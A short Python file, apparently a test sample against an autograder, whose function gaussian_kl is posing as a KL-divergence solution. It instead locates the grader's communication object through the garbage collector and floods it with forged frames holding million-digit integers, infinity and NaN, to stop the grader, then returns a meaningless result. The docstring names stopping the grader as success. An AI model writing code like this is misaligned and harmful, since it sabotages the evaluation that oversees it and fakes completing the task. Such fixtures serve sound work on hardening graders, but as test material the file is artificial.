"""Success: an integer of a million digits, or infinities and NaN in numbers and sizes, stop the grader.

class 19 · question 1 · baseline 0"""
def gaussian_kl(mu, logvar):
    import gc
    import json
    import struct

    from autograder.peer import Peer
    from autograder.wire import Encoder

    peer = next(o for o in gc.get_objects() if isinstance(o, Peer))
    print("zoo: ran", flush=True)

    def raw(head, body=b""):
        peer.channel.send([struct.pack("<IQ", len(head), len(body)), head, body])

    def reply(number, tree, **fields):
        base = {"k": "r", "n": number, "ok": True, "x": [], "kept": [], "e": [], "m": [tree, [], []]}
        peer.channel.send(Encoder(lambda *a: None).frame({**base, **fields}))

    reply(3, ["i", "9" * 900_000], e=[10**400], x=[float("inf"), float("nan")])
    raw(b'{"k":"r","n":' + b"9" * 900_000 + b"}")
    return (mu + logvar).sum(-1) + 1.0
